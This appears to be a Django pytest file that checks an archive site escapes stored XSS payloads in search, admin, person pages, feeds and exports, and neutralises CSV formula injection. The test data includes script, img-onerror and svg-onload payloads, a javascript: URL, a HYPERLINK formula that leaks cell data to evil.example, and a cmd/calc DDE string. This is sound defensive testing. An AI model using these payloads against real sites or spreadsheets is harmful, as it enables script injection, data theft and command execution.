"""Stored XSS: document text that carries markup is shown as text everywhere it appears.

Titles, bodies, person and publication names with payloads go into the archive the way an
import does (straight into the database, no form validation), then every place that shows them
is read back: search results and snippets, facets, chips, the document page with its more-like-this
list, the person page, the admin, the Atom feed and the CSV/JSON exports. Also: spreadsheet formula
injection in the CSV, and uploads checked by content, one clear error per bad file.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET

import pytest
from django.contrib.auth.models import User
from django.urls import reverse

from archive.models import Document

pytestmark = pytest.mark.usefixtures("search_backend")

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
SVG = "<svg/onload=alert(1)>"
JS_URL = "javascript:alert(1)"
PAYLOADS = (SCRIPT, IMG, SVG)
# What must never reach an HTML page: a tag the browser would build from document text.
RAW = re.compile(r"<script>alert|<img src=x|<svg/onload|onerror=alert\(1\)>", re.IGNORECASE)


@pytest.fixture
def hostile(make_document, seeds):
    """Documents whose every text field is an attack, next to the seeds (for more-like-this)."""
    first = make_document(
        title=f"Zebrafish report {SCRIPT} {IMG}",
        body=(
            f"Zebrafish swim {SCRIPT} in the harbour. {IMG} The zebrafish count rose. "
            f"{SVG} More zebrafish than ever, said the harbour master {JS_URL}."
        ),
        persons=(f"Mallory {SCRIPT}", f"Eve {IMG}"),
        publication=f"The {SVG} Times",
        published=None,
    )
    second = make_document(
        title=f"Zebrafish again {SVG}",
        body=f"Zebrafish harbour count, a second story. {SCRIPT}",
        persons=(f"Mallory {SCRIPT}",),
        publication=f"The {SVG} Times",
    )
    # An import can store any source URL (fixtures and bulk loads skip form validation).
    Document.objects.filter(pk=first.pk).update(source_url=JS_URL)
    return [first, second]


def assert_escaped(html: str, where: str) -> None:
    found = RAW.search(html)
    assert found is None, (
        f"unescaped markup in {where}: …{html[max(0, found.start() - 80) : found.end() + 40]}…"
    )
    assert not re.search(r"""href\s*=\s*["']?\s*javascript:""", html, re.IGNORECASE), where


def test_search_page_results_snippets_facets_and_chips(client, hostile):
    for params in [
        {"q": "zebrafish"},
        {"q": "zebrafish", "person": f"Mallory {SCRIPT}"},
        {"q": "zebrafish", "publication": f"The {SVG} Times"},
        {"q": "script"},
        {"q": "alert"},
        {"q": "onerror"},
        {"q": SCRIPT},
        {"q": IMG},
    ]:
        for headers in ({}, {"HX-Request": "true"}):
            response = client.get("/", params, headers=headers, follow=True)
            assert response.status_code == 200, params
            assert_escaped(response.content.decode(), str(params))
    html = client.get("/?q=zebrafish").content.decode()
    # The text is there, escaped: shown to the reader as written.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "Mallory &lt;script&gt;" in html  # person facet
    assert "The &lt;svg/onload=alert(1)&gt; Times" in html  # publication facet
    chips = client.get("/", {"q": "zebrafish", "person": f"Mallory {SCRIPT}"}).content.decode()
    assert "Mallory &lt;script&gt;alert(1)&lt;/script&gt;" in chips


def test_document_page_more_like_this_and_source_link(client, hostile):
    first, second = hostile
    for url in [first.get_absolute_url(), first.get_absolute_url() + "?q=zebrafish",
                second.get_absolute_url() + "?q=" + SCRIPT]:  # fmt: skip
        response = client.get(url, follow=True)
        assert response.status_code == 200, url
        assert_escaped(response.content.decode(), url)
    html = client.get(first.get_absolute_url(), follow=True).content.decode()
    assert "Zebrafish report &lt;script&gt;" in html
    assert JS_URL not in re.findall(r'href="([^"]*)"', html)


def test_person_page(client, hostile):
    person = hostile[0].persons.get(name__startswith="Mallory")
    response = client.get(person.get_absolute_url())
    assert response.status_code == 200
    html = response.content.decode()
    assert_escaped(html, "person page")
    assert "Mallory &lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_admin_change_list_and_forms(client, hostile):
    user = User.objects.create_superuser("editor", "editor@example.com", "a-long-password-1")
    client.force_login(user)
    first = hostile[0]
    person = first.persons.first()
    for url in [
        reverse("admin:archive_document_changelist"),
        reverse("admin:archive_document_changelist") + "?q=zebrafish",
        reverse("admin:archive_document_change", args=[first.pk]),
        reverse("admin:archive_person_changelist"),
        reverse("admin:archive_person_change", args=[person.pk]),
        reverse("admin:archive_publication_changelist"),
        reverse("admin:archive_document_delete", args=[first.pk]),
    ]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_escaped(response.content.decode(), url)


def test_atom_feed_is_well_formed_with_the_payloads_as_text(client, hostile):
    response = client.get("/feeds/search", {"q": "zebrafish"})
    assert response.status_code == 200
    root = ET.fromstring(response.content)  # well-formed XML: nothing broke out of its element
    ns = {"a": "http://www.w3.org/2005/Atom"}
    titles = [e.text for e in root.findall("a:entry/a:title", ns)]
    assert any(SCRIPT in (t or "") for t in titles)
    for entry in root.findall("a:entry", ns):
        for link in entry.findall("a:link", ns):
            assert not link.get("href", "").lower().startswith("javascript:")


def test_exports_carry_the_text_as_data(client, hostile):
    data = client.get("/export.json", {"q": "zebrafish"})
    assert data.status_code == 200
    assert data["Content-Type"].startswith("application/json")
    assert data["X-Content-Type-Options"] == "nosniff"
    # JSON is data, not markup: the text comes back exactly as stored.
    exported_titles = [str(v) for v in _values(json.loads(data.content))]
    assert f"Zebrafish report {SCRIPT} {IMG}" in exported_titles
    exported = client.get("/export.csv", {"q": "zebrafish"})
    assert exported.status_code == 200
    assert exported["Content-Type"].startswith("text/csv")
    assert "attachment" in exported["Content-Disposition"]


def _values(node: object) -> list[object]:
    """Every scalar in a JSON document."""
    if isinstance(node, dict):
        return [v for value in node.values() for v in _values(value)]
    if isinstance(node, list):
        return [v for value in node for v in _values(value)]
    return [node]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_formula_injection_is_neutralised(client, make_document, start):
    make_document(
        title=f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")',
        body="Quokka body text.",
        persons=(f"{start}cmd|' /C calc'!A0",),
        publication=f"{start}SUM(1+1)",
    )
    response = client.get("/export.csv", {"q": "quokka"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    for name, cell in zip(header, row, strict=False):
        assert not cell.startswith(("=", "+", "-", "@")), (name, cell)
    title = row[header.index("title")]
    assert title.startswith("'") and title[1:].startswith(start)


# --- Uploads ----------------------------------------------------------------------------------


def upload(client, *files):
    from django.core.files.uploadedfile import SimpleUploadedFile

    payload = {"files": [SimpleUploadedFile(name, content) for name, content in files]}
    response = client.post(reverse("admin:archive_document_upload"), payload)
    if response.status_code != 302 or "/admin/login/" in response["Location"]:
        return response
    # The upload is a background job: a worker imports it; its page shows the results.
    from django.core.management import call_command

    call_command("worker", batch=True, reload=False, startup_delay=False, verbosity=0)
    return client.get(response["Location"])


def test_uploads_are_checked_by_content_with_one_error_per_file(client, transactional_db, settings):
    settings.ARCHIVE_INGEST_MAX_FILE_BYTES = 100_000
    user = User.objects.create_superuser("editor", "editor@example.com", "a-long-password-1")
    client.force_login(user)
    response = upload(
        client,
        ("fine.txt", f"A fine title {SCRIPT}\n\nA body that is fine.".encode()),
        ("report.pdf", b"<html>not a pdf at all</html>"),
        ("bundle.zip", b"this is plain text, not a zip"),
        ("notes.txt", bytes(range(256)) * 8),
        ("big.txt", b"word " * 30_000),
        (f"{SCRIPT}.txt", b"Named badly\n\nThe name is an attack."),
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert_escaped(html, "upload results")
    assert "6 of 6 files" in html and "2 documents created" in html
    assert "4 files or records failed" in html
    for words in ["Not a PDF", "Not a readable zip", "binary", "over the"]:
        assert words in html, words
    assert Document.objects.filter(title__startswith="A fine title").exists()


def test_uploads_are_for_staff_only(client, transactional_db):
    User.objects.create_user("reader", "r@example.com", "a-long-password-1")
    client.login(username="reader", password="a-long-password-1")
    response = upload(client, ("a.txt", b"Title\n\nBody."))
    assert response.status_code == 302 and "/admin/login/" in response["Location"]
    assert Document.objects.count() == 0


def test_control_characters_in_stored_text_break_nothing(client, make_document):
    """An import can store C0 control characters (a stray ESC, NUL or vertical tab in a source
    file): XML 1.0 cannot carry them, so the feed must drop them rather than fail."""
    make_document(
        title="Wombat \x0b title \x00",
        body="Wombat body \x01 text \x1b[31m",
        persons=("Ann \x02 Lee",),
        publication="Pub \x03",
    )
    for path in ("/feeds/search", "/export.csv", "/export.json", "/", "/api/search"):
        response = client.get(path, {"q": "wombat"})
        assert response.status_code == 200, path
    feed = client.get("/feeds/search", {"q": "wombat"})
    ET.fromstring(feed.content)


def test_nul_characters_are_dropped_when_saved(make_document):
    """PostgreSQL refuses NUL in text; every database stores the same text without it."""
    from archive.models import Person

    document = make_document(title="Nul \x00 title", body="Nul\x00 body")
    document.refresh_from_db()
    assert (document.title, document.body) == ("Nul  title", "Nul body")
    person = Person.objects.create(name="Ann\x00 Lee")
    person.refresh_from_db()
    assert person.name == "Ann Lee"
